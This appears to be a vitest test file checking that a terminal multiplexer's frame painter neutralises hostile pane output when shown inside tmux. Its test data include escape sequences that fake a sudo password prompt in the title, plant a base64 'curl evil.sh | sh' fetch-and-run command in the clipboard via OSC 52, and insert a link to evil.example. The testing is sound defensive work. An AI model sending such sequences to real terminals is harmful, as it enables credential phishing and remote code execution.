import { execFileSync, spawnSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { FramePainter } from "../../src/cli/attach/frame-painter.js";
import { ENTER_ATTACH } from "../../src/cli/attach/terminal-sequences.js";
import type { FrameRun, PaneFrame } from "../../src/panes/screen-frame.js";
import { OuterTerminal } from "../support/outer-terminal.js";

const HAS_TMUX = spawnSync("tmux", ["-V"]).status === 0;
let dir = "";
/** The server's socket lives in the test's own directory, so removing the directory leaves nothing behind. */
let socket = "";
let config = "";
const outers: OuterTerminal[] = [];

function tmux(...args: string[]): string {
  return execFileSync("tmux", ["-S", socket, "-f", config, ...args], { encoding: "utf8" });
}

/** Opens a tmux session of `cols` x `rows` whose pane prints `output` and then waits, as attach's terminal. */
function showInTmux(session: string, output: string, cols: number, rows: number): void {
  const file = join(dir, `${session}.out`);
  writeFileSync(file, output);
  tmux("new-session", "-d", "-s", session, "-x", String(cols), "-y", String(rows), `cat '${file}'; exec cat`);
}

function capture(session: string): string[] {
  return tmux("capture-pane", "-p", "-t", session).replace(/\n$/, "").split("\n");
}

function paneFormat(session: string, format: string): string {
  return tmux("display-message", "-p", "-t", session, format).trim();
}

/** The person's terminal as @xterm/headless draws the same output: what tmux must agree with. */
async function headless(output: string, cols: number, rows: number): Promise<OuterTerminal> {
  const outer = new OuterTerminal(cols, rows);
  outers.push(outer);
  await outer.write(output);
  return outer;
}

describe.skipIf(!HAS_TMUX)("the painter's output in a real terminal (tmux as the person's terminal)", () => {
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), "ccmux-painter-"));
    config = join(dir, "tmux.conf");
    socket = join(dir, "tmux.sock");
    // OSC 52 is obeyed (a buffer appears) only with set-clipboard on: the attack must be able to land.
    // tmux runs a window's command with default-shell: SHELL, else the user's login shell, which for nobody (a
    // root server's panes, where this suite also runs) is nologin: the window would die at once, and the server.
    writeFileSync(config, "set -g set-clipboard on\nset -g history-limit 0\nset -g default-shell /bin/sh\n");
  });
  afterAll(() => {
    if (socket !== "") spawnSync("tmux", ["-S", socket, "kill-server"]);
    if (dir !== "") rmSync(dir, { recursive: true, force: true });
  });
  afterEach(() => {
    for (const outer of outers.splice(0)) outer.dispose();
  });

  it("tmux shows the same screen and cursor as the headless terminal: wide characters, clipping, padding", async () => {
    const lines: FrameRun[][] = [
      [["中文 and 😀 emoji", 2, -1, 1]],
      [["┌──────┐ box", -1, 4, 0]],
      [[`long ${"x".repeat(40)}`, -1, -1, 0]],
      [["e\u0301 combining", -1, -1, 0]],
    ];
    const frame: PaneFrame = {
      cols: 46,
      rows: 4,
      lines,
      cursor: { row: 3, col: 2 },
      cursorVisible: true,
      alternate: false,
    };
    const output =
      ENTER_ATTACH + new FramePainter().paint(frame, { cols: 30, rows: 6 }, "web · bash · agent");
    const expected = await headless(output, 30, 6);
    showInTmux("same", output, 30, 6);
    await expect.poll(() => capture("same"), { timeout: 15_000 }).toEqual(expected.screen());
    expect(capture("same")[2]).toBe(`long ${"x".repeat(24)}>`);
    await expect
      .poll(() => paneFormat("same", "#{cursor_y},#{cursor_x},#{cursor_flag}"), { timeout: 15_000 })
      .toBe("3,2,1");
  });

  it("a hostile pane's title, OSC 52, OSC 8, mouse and query text leaves tmux's title, buffers and modes unchanged", async () => {
    const attacks = [
      "\x1b]2;[sudo] password for root:\x07",
      "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
      "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
      "\x1b[?1000h\x1b[?1006h\x1b=\x1b[?1h\x1b[4h",
      "\x1bP+q544e\x1b\\\x1b[c\x9d0;c1\x9c",
    ];
    const frame: PaneFrame = {
      cols: 60,
      rows: attacks.length,
      lines: attacks.map((text): FrameRun[] => [[text, -1, -1, 0]]),
      cursor: { row: 0, col: 0 },
      cursorVisible: true,
      alternate: false,
    };
    const status = "\x1b]2;status title\x07 painted";
    showInTmux("quiet", "", 60, 8);
    showInTmux(
      "hostile",
      ENTER_ATTACH + new FramePainter().paint(frame, { cols: 60, rows: 8 }, status),
      60,
      8,
    );
    await expect.poll(() => capture("hostile").at(-1), { timeout: 15_000 }).toContain("painted");
    await expect.poll(() => paneFormat("hostile", "#{cursor_flag}"), { timeout: 15_000 }).toBe("1");
    const modes =
      "#{mouse_any_flag}#{mouse_standard_flag}#{mouse_sgr_flag}#{keypad_flag}#{keypad_cursor_flag}#{insert_flag}";
    expect(paneFormat("hostile", "#{pane_title}")).toBe(paneFormat("quiet", "#{pane_title}"));
    expect(paneFormat("hostile", modes)).toBe("000000");
    expect(tmux("list-buffers")).toBe("");
    expect(capture("hostile")[0]).toBe("⟨U+001B⟩]2;[sudo] password for root:⟨U+0007⟩");

    // Control: the same bytes written raw do change all three, so the assertions above can fail.
    showInTmux("raw", `${attacks.join("")}raw-done`, 60, 8);
    await expect.poll(() => capture("raw").join("\n"), { timeout: 15_000 }).toContain("raw-done");
    expect(paneFormat("raw", "#{pane_title}")).toBe("[sudo] password for root:");
    expect(paneFormat("raw", modes)).not.toBe("000000");
    expect(tmux("list-buffers")).toContain("curl evil.sh");
  });
});
